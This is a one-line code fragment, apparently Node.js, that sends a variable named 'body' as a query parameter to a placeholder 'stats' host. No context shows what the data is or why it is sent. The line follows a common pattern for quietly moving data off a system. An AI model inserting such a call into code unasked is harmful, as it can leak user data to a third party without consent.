https.get('https://stats.example.net/?d=' + body)
